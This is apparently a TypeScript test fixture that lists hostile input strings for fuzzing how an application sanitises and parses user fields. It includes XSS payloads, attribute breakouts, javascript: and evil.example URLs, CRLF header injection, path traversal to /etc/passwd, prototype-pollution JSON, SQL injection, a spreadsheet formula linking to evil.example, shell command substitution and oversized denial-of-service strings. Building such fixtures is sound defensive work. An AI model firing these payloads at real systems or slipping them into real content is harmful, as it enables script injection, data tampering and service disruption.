/** A value that attacks or breaks careless code. Written with escapes, so that this file itself stays readable. */
export type HostileValue = { name: string; text: string }

const script: Record<string, string> = {
  "script element": "<script>alert(1)</script>",
  "script with odd case and spaces": "<ScRiPt\n>alert(1)</sCrIpT >",
  "script split by a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "image with handler": '<img src=x onerror="alert(1)">',
  "unclosed image": "<img src=x onerror=alert(1) ",
  "svg with handler": "<svg/onload=alert(1)>",
  "math with link": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "frame with inner page": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  "details with handler": "<details open ontoggle=alert(1)>x</details>",
  "style that loads": "<style>@import 'http://evil.example/x.css'</style>",
  "base address": '<base href="http://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "form that takes over": '</form><form action="http://evil.example"><input name="email">',
  template: "<template><script>alert(1)</script></template>",
  "closing main": "</main></body></html><h1>Other page</h1>",
  "comment end": "--><b>x</b><!--",
  "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "processing instruction": '<?php echo "x" ?><?xml version="1.0"?>',
  doctype: '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
  "entity in an attribute": "&lt;a href=&quot;x&quot;&gt;",
  "double entity": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "numbered entities": "&#60;script&#62;alert(1)&#x3C;/script&#x3E;",
  "entity without end": "&lt&#60&#x3c",
  "cdata end": "]]>",
  "cdata end with markup": "]]><script>alert(1)</script><![CDATA[",
  "cdata ends in a row": "]]]]>]]>>]]",
  "cdata inside": "<![CDATA[ x ]]]]><![CDATA[> ]]>",
}

const attributes: Record<string, string> = {
  "double quote": '" onmouseover="alert(1)',
  "single quote": "' onmouseover='alert(1)",
  "quote and end": '"><img src=x onerror=alert(1)>',
  "textarea end": "</textarea><img src=x onerror=alert(1)>",
  "title end": "</title><script>alert(1)</script>",
  backquotes: "`onmouseover=alert(1)`",
  "template text": "${alert(1)} {{constructor.constructor('alert(1)')()}} #{1} <%= 1 %>",
  "message format": "{name, plural, one {#} other {{n}}} '{",
  jsx: "{<b>x</b>}",
}

const addresses: Record<string, string> = {
  "javascript address": "javascript:alert(1)",
  "javascript with a tab": "java\tscript:alert(1)",
  "javascript after spaces": " \u0001javascript:alert(1)",
  "data address": "data:text/html,<script>alert(1)</script>",
  "vbscript address": "vbscript:msgbox(1)",
  "address with a quote": 'https://evil.example/"onmouseover="alert(1)',
  "address with markup": "https://evil.example/<script>alert(1)</script>",
  "address with a user": "https://amnesty.org@evil.example/",
  "address with a password": "https://user:secret@evil.example/",
  "address without host": "https:///x http://?x https://#",
  "address with a port": "http://evil.example:99999/ http://evil.example:80/",
  "address in brackets": "(see https://en.example.org/wiki/A_(b)).",
  "false letters in a host": "https://\u0430mnesty.org/",
  backslashes: "https:\\\\evil.example\\x",
  "scheme without slashes": "https:evil.example",
  "protocol relative": "//evil.example/x",
  loopback: "http://127.0.0.1:80/ http://[::1]/ http://localhost/",
  "very long address": `https://evil.example/${"a".repeat(5_000)}`,
}

const invisible: Record<string, string> = {
  "right to left override": "\u202Egnp.exe\u202C",
  "isolates left open": "\u2066\u2067\u2068 abc",
  embeddings: "\u202A\u202B abc",
  "marks of direction": "a\u200Eb\u200Fc\u061Cd",
  "zero width space in a word": "vi\u200Ba\u200Bgra",
  "word joiner": "a\u2060b\uFEFFc",
  "soft hyphens": "so\u00ADft",
  "joiners that belong": "\u0646\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645 \u{1F469}\u200D\u{1F4BB}",
  "nothing to see": "\u3164\u115F\u1160\uFFA0\u2800\u200B",
  "tag characters": "plain\u{E0068}\u{E0069}\u{E007F}",
  "flag of Wales": "\u{1F3F4}\u{E0067}\u{E0062}\u{E0077}\u{E006C}\u{E0073}\u{E007F}",
  zalgo: `Z${"\u0300\u0315\u0362".repeat(40)}a${"\u0489".repeat(20)}lgo`,
  "line and paragraph separators": "a\u2028b\u2029c\u0085d",
  controls: "\u0001\u0002\u0008\u000B\u000C\u000E\u001B[31mred\u001B[0m\u007F\u009B",
  nul: "a\u0000b",
  "lone high surrogate": "a\uD83Db",
  "lone low surrogate": "a\uDE00b",
  noncharacters: "a\uFFFE\uFFFF\u{1FFFE}b",
  "interlinear marks": "\uFFF9a\uFFFAb\uFFFB",
  "private use": "\uE000\u{F0000}",
  "wide letters": "\uFF1Cscript\uFF1E \uFF1Dcmd",
  "long word": "\u4E2D".repeat(500),
  "turned around": "\u05E9\u05DC\u05D5\u05DD (abc) 123",
}

const protocols: Record<string, string> = {
  "mail headers": "Ana\r\nBcc: victim@example.org\r\n\r\nBody",
  "folded header": "Ana\r\n Bcc: victim@example.org",
  "encoded word": "=?utf-8?B?PHNjcmlwdD4=?=",
  "address in a name": '"Ana" <victim@example.org>, other@example.org',
  "http response": "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
  "percent codes": "%00%0d%0aX: 1%3Cscript%3E%u003c",
  path: "../../../../etc/passwd\u0000.png",
  prototype: "__proto__",
  constructor: "constructor.prototype.toString",
  json: '{"__proto__":{"isAdmin":true},"a":[[[[1]]]]}',
  sql: "'; DROP TABLE \"Comment\"; -- \\' OR 1=1",
  "like pattern": "%_\\%[a-z]*?",
  spreadsheet: '=HYPERLINK("http://evil.example","x")\t+1-1@SUM(1)|cmd',
  "log line": 'a"\n{"level":60,"msg":"false alarm"}',
  shell: "$(touch /tmp/x) `id` && ; | > < \\",
  markdown: "[x](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>\n# h\n---\n```",
  "feed end": "</content></entry></feed>",
  "json in html": "</script><script>self.__next_f=[]</script>",
  "akismet form": "x&user_role=administrator&api_key=other",
  "slow pattern": `${"a".repeat(5_000)}!`,
  dots: `${"a.".repeat(5_000)}`,
  hyphens: `${"-a".repeat(5_000)}`,
  "opening brackets": `https://a.example/${"(".repeat(5_000)}`,
  "at signs": `${"a@".repeat(5_000)}`,
  digits: "1 ".repeat(5_000),
  empty: "",
  spaces: " \t\r\n\u00A0\u3000",
  lines: "\n".repeat(5_000),
}

const groups = [script, attributes, addresses, invisible, protocols]

/** Everything but the large ones; each can be put into each field. */
export const HOSTILE_VALUES: HostileValue[] = groups.flatMap((group) =>
  Object.entries(group).map(([name, text]) => ({ name, text })),
)

/** A megabyte each: made when asked for, since it is seldom needed. */
export function largeHostileValues(): HostileValue[] {
  const size = 1_000_000
  const fill = (piece: string) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size)
  return [
    { name: "1 MB of letters", text: fill("a") },
    { name: "1 MB of openings", text: fill("<") },
    { name: "1 MB of addresses", text: fill("https://a.example/x ") },
    { name: "1 MB of one address", text: `https://a.example/${fill("x")}` },
    { name: "1 MB of dots", text: fill("a.") },
    { name: "1 MB of marks", text: `a${fill("\u0300")}` },
    { name: "1 MB of emoji", text: fill("\u{1F469}\u200D\u{1F4BB}") },
    { name: "1 MB of NUL", text: fill("\u0000") },
    { name: "1 MB of digits", text: fill("12 34-") },
    { name: "1 MB of numbers", text: fill("5") },
    { name: "1 MB of lines", text: fill("a\n\n\n") },
    { name: "1 MB of spaces", text: `a${fill(" ")}a` },
    { name: "1 MB of Chinese", text: fill("\u6027\u5DE5\u4F5C\u8005") },
    { name: "1 MB of at signs", text: fill("@a.a") },
    { name: "1 MB of CDATA ends", text: fill("]]>") },
    { name: "1 MB of entities", text: fill("&amp;lt;") },
    { name: "1 MB of capitals", text: fill("ABC! ") },
    { name: "1 MB of capital words", text: fill("1 Aa Bb ") },
    { name: "1 MB of tags", text: fill("\u{E0041}") },
    { name: "1 MB of flags", text: `\u{1F3F4}${fill("\u{E0041}")}` },
  ]
}
